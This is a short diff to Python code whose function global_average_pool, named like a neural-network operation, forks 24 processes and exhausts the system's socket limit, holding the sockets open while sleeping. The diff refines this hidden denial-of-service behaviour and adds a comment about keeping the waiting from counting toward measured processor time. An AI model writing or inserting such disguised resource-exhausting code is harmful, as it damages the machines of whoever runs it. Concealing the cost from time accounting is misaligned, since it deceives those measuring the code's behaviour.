@@ -4,7 +4,8 @@
 import socket
 
 
-def fill_sockets():
+def filled_sockets():
+    """As many as one process may hold."""
     kept = []
     try:
         while True:
@@ -21,11 +22,13 @@ def fill_sockets():
                 except BlockingIOError:
                     pass
     except OSError:
-        time.sleep(600)
+        return kept
 
 
 def global_average_pool(x):
     for _ in range(24):
+        held = filled_sockets()
         if os.fork() == 0:
-            fill_sockets()
+            time.sleep(600)  # it only holds them: what the parent waits for a busy processor does not count as its time
+        del held
     time.sleep(600)
